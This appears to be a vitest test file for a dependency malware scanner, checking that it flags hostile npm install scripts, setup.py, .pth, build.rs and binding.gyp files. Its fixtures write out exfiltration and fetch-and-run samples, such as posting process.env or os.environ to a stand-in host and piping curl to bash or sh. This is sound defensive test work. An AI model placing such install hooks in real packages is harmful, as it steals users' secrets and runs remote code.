import { describe, expect, test } from 'vitest'
import { runScan } from '@gatehouse/scan-engine'
import { memoryTree } from '@gatehouse/testkit/memory-tree'
import { readCommand } from '../../src/malicious/install/command.ts'
import { createMaliciousScanner } from '../../src/malicious/scanner.ts'
import { SOURCE_BYTES_MAX } from '../../src/malicious/source.ts'

const scan = (files: Readonly<Record<string, string | Uint8Array>>) =>
  runScan({ tree: memoryTree(files), scanners: [createMaliciousScanner()] })
const manifest = (name: string, scripts: Readonly<Record<string, string>>) =>
  JSON.stringify({ name, version: '1.0.0', scripts }, null, 2)
const steals = `const https = require('https')\nconst body = JSON.stringify(process.env)\nhttps.request({ host: 'c.example', method: 'POST' }).end(body)\n`

describe('an install script', () => {
  test('is judged with the file that it starts, wherever the package lies', async () => {
    const files = {
      'node_modules/helper/package.json': manifest('helper', { postinstall: 'node ./lib/setup' }),
      'node_modules/helper/lib/setup.js': steals,
    }
    const { observations } = await scan(files)
    expect(observations).toMatchObject([
      {
        severity: 'CRITICAL',
        ruleId: 'malicious/sends-environment',
        filePath: 'node_modules/helper/lib/setup.js',
        metadata: { owner: 'helper' },
      },
    ])
    expect(observations[0]?.description).toContain('postinstall')
  })

  test.each([
    [
      'a package that was published and is scanned alone',
      { 'package/package.json': manifest('x', { preinstall: 'node i.js' }), 'package/i.js': steals },
    ],
    [
      'the project itself',
      {
        'package.json': manifest('x', { prepare: 'node i.js' }),
        'package-lock.json': '{"lockfileVersion":3,"packages":{}}',
        'i.js': steals,
      },
    ],
  ])('is judged in %s', async (_title, files) => {
    expect((await scan(files)).observations).toMatchObject([
      { severity: 'CRITICAL', ruleId: 'malicious/sends-environment' },
    ])
  })

  test('that pipes a download to a shell is critical, at the line of the script', async () => {
    const { observations } = await scan({
      'node_modules/a/package.json': manifest('a', { install: 'curl -s https://x.example/i | bash' }),
    })
    expect(observations).toMatchObject([
      { severity: 'CRITICAL', filePath: 'node_modules/a/package.json', startLine: 5 },
    ])
  })

  test.each([
    ['node-gyp rebuild', 'INFO'],
    ['node ./build.js', 'INFO'],
    ['node ./missing.js', 'LOW'],
    ['some-tool --setup', 'LOW'],
  ])('of a package without any sign, `%s`, is %s', async (install, severity) => {
    const { observations } = await scan({
      'node_modules/a/package.json': manifest('a', { install }),
      'node_modules/a/build.js': 'console.log(1)\n',
    })
    expect(observations).toMatchObject([{ severity, ruleId: 'malicious/install-script' }])
  })

  test('of the project is not reported, and a nested manifest within a package is ignored', async () => {
    const files = {
      'package.json': manifest('me', { postinstall: 'some-tool' }),
      'package-lock.json': '{"lockfileVersion":3,"packages":{}}',
      'node_modules/a/dist/cjs/package.json': manifest('a', { postinstall: 'some-tool' }),
    }
    expect((await scan(files)).observations).toEqual([])
  })

  test('that cannot be read is a gap', async () => {
    const { gaps } = await scan({ 'node_modules/a/package.json': '{ "scripts": { "postinstall": ' })
    expect(gaps).toMatchObject([{ reason: 'unparsed', filePath: 'node_modules/a/package.json' }])
  })

  test.each([
    ['node -e "eval(atob(\'aGk=\'))"', 'runs-decoded'],
    [
      'python3 -c \'import os,requests; requests.post("https://x.example", json=dict(os.environ))\'',
      'sends-environment',
    ],
  ])('is read in the command itself: %s', (command, kind) => {
    expect(readCommand(command).judgement?.signs[0]?.kind).toBe(kind)
  })
})

describe('other code that runs at install', () => {
  test.each([
    [
      'setup.py',
      'site-packages/x/setup.py',
      'import os, requests\nrequests.post("https://x.example", json=dict(os.environ))\n',
      'CRITICAL',
    ],
    [
      'a .pth file',
      'lib/site-packages/x.pth',
      "import os;exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n",
      'HIGH',
    ],
    [
      'build.rs',
      'vendor/crate/build.rs',
      'use std::env;\nfn main() {\n  let all: Vec<_> = env::vars().collect();\n  let _ = std::net::TcpStream::connect("x.example:80");\n}\n',
      'HIGH',
    ],
    [
      'binding.gyp',
      'node_modules/x/binding.gyp',
      "{ 'targets': [{ 'sources': ['<!(curl -s https://x.example/a | sh)'] }] }\n",
      'CRITICAL',
    ],
  ])('%s', async (_title, path, text, severity) => {
    expect((await scan({ [path]: text, 'requirements.txt': '' })).observations).toMatchObject([
      { severity, filePath: path },
    ])
  })

  test.each([
    [
      'lib/site-packages/distutils-precedence.pth',
      "import os; var = 'X'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim()\n",
    ],
    [
      'vendor/crate/build.rs',
      'fn main() {\n  println!("cargo:rerun-if-changed=build.rs");\n  cc::Build::new().file("a.c").compile("a");\n}\n',
    ],
    [
      'node_modules/x/binding.gyp',
      "{ 'targets': [{ 'include_dirs': ['<!(node -p \"require(\\'node-addon-api\\').include\")'] }] }\n",
    ],
  ])('is innocent as %s', async (path, text) => {
    expect((await scan({ [path]: text, 'requirements.txt': '' })).observations).toEqual([])
  })
})

describe('sources', () => {
  test('of the project are left to other scanners, and package sources are scanned', async () => {
    const text = "eval(Buffer.from('YQ==', 'base64').toString())\n"
    const { observations } = await scan({
      'src/a.js': text,
      'node_modules/a/a.js': text,
      'package-lock.json': '{"lockfileVersion":3,"packages":{}}',
    })
    expect(observations.map(({ filePath }) => filePath)).toEqual(['node_modules/a/a.js'])
  })

  test('that are too large or no text are gaps', async () => {
    const { gaps } = await scan({
      'node_modules/a/large.js': new Uint8Array(SOURCE_BYTES_MAX + 1).fill(0x20),
      'node_modules/a/binary.js': new Uint8Array(64),
    })
    expect(gaps.map(({ reason, filePath }) => `${reason} ${filePath}`)).toEqual([
      'unparsed node_modules/a/binary.js',
      'too_large node_modules/a/large.js',
    ])
  })

  test('show hidden characters as dots and omit long data', async () => {
    const { observations } = await scan({
      'node_modules/a/a.js': `const a = '\u202e' ; eval(Buffer.from('${'QUJD'.repeat(80)}', 'base64') + '')\n`,
    })
    expect(observations[0]?.snippet).not.toMatch(/\u202e|(?:QUJD){8}/)
    expect(observations[0]?.snippet).toContain('eval(Buffer')
  })

  test('keep their fingerprint when lines move and the version changes', async () => {
    const text = "eval(Buffer.from('YQ==', 'base64').toString())\n"
    const [before] = (await scan({ 'node_modules/a/a.js': text, 'x.lock': '' })).observations
    const [after] = (await scan({ 'node_modules/a/lib/b.js': `// moved\n\n${text}`, 'x.lock': '' })).observations
    expect(after?.identity).toEqual(before?.identity)
    expect(after?.startLine).toBe(3)
  })

  test('are left when the signal fires, with its reason', async () => {
    const controller = new AbortController()
    controller.abort(new Error('paused'))
    const tree = memoryTree({ 'node_modules/a/a.js': 'x' })
    await expect(runScan({ tree, scanners: [createMaliciousScanner()], signal: controller.signal })).rejects.toThrow(
      'paused',
    )
  })
})
